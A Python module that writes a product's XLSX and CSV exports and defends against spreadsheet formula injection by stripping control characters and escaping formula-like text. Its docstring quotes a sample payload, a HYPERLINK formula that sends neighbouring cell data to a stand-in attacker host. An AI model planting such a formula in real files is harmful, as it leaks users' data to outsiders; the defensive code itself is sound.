"""Every spreadsheet the product writes, XLSX or CSV, is written through here.

Text a member, a supplier or a staff member typed ends up in these files, and a spreadsheet
programme runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` as a member's name
would send the neighbouring cells away (OWASP "CSV injection"). So every text value is

* stripped of control characters (which XLSX cannot hold at all: openpyxl refuses them), and
* prefixed with an apostrophe when it starts like a formula, so it shows as the text it is.

Numbers stay numbers: Decimals are written as they are (exact), dates as dates.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from html.parser import HTMLParser

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What XML 1.0 (and so XLSX) cannot carry, and what no report needs: C0 controls but tab, LF and CR.
_CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def safe_text(value: str) -> str:
    """``value`` without control characters, and with an apostrophe in front if it starts like a formula."""
    text = _CONTROL_CHARACTERS.sub("", value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell_value(value):
    """A value as a cell holds it: numbers, dates and booleans as they are, anything else as safe text."""
    if value is None or isinstance(value, bool | int | float | Decimal | datetime.date | datetime.datetime):
        return value
    return safe_text(str(value))


def write_csv(stream, rows: Iterable[Sequence], *, bom: bool = True) -> None:
    """Write ``rows`` as CSV to the text ``stream`` as they come (a large table never sits in memory), with a
    byte-order mark first so spreadsheet programmes read the characters right."""
    if bom:
        stream.write("\ufeff")
    writer = csv.writer(stream)
    for row in rows:
        writer.writerow(["" if value is None else cell_value(value) for value in row])


def csv_text(rows: Iterable[Sequence], *, bom: bool = True) -> str:
    """CSV of ``rows`` (UTF-8 with a byte-order mark, so spreadsheet programmes read the characters right)."""
    buffer = io.StringIO()
    write_csv(buffer, rows, bom=bom)
    return buffer.getvalue()


class Sheet:
    """One XLSX worksheet being written: rows of safe cells, bold rows, number formats, widths."""

    def __init__(self, title: str) -> None:
        from openpyxl import Workbook

        self.workbook = Workbook()
        self.worksheet = self.workbook.active
        self.worksheet.title = _SHEET_NAME_FORBIDDEN.sub(" ", safe_text(str(title)).lstrip("'"))[:31] or "Sheet"

    def append(self, values: Iterable, *, bold: bool = False, formats: Sequence[str | None] = ()) -> None:
        """Add a row; ``formats`` gives a number format per column (``None``: the default)."""
        from openpyxl.styles import Font

        self.worksheet.append([cell_value(value) for value in values])
        cells = self.worksheet[self.worksheet.max_row]
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, never a formula, whatever it looks like
            if bold:
                cell.font = Font(bold=True)
        for cell, number_format in zip(cells, formats, strict=False):
            if number_format and cell.value is not None and not isinstance(cell.value, str):
                cell.number_format = number_format
        for cell in cells:
            if isinstance(cell.value, datetime.date) and not isinstance(cell.value, datetime.datetime):
                cell.number_format = "yyyy-mm-dd"

    def widths(self, widths: dict[str, float]) -> None:
        for letter, width in widths.items():
            self.worksheet.column_dimensions[letter].width = width

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.workbook.save(buffer)
        return buffer.getvalue()


class _TableReader(HTMLParser):
    """The tables of an HTML fragment: per table, its rows; per row, (cell text, is a header cell)."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[list[list[tuple[str, bool]]]] = []
        self._cell: list[str] | None = None
        self._header = False

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in ("td", "th") and self.tables and self.tables[-1]:
            self._cell, self._header = [], tag == "th"
        elif tag == "br" and self._cell is not None:
            self._cell.append(" ")

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append((" ".join("".join(self._cell).split()), self._header))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def html_tables(html: str) -> list[list[list[tuple[str, bool]]]]:
    """The tables a page shows, as text: what an XLSX of that page's figures should hold."""
    reader = _TableReader()
    reader.feed(html)
    return reader.tables
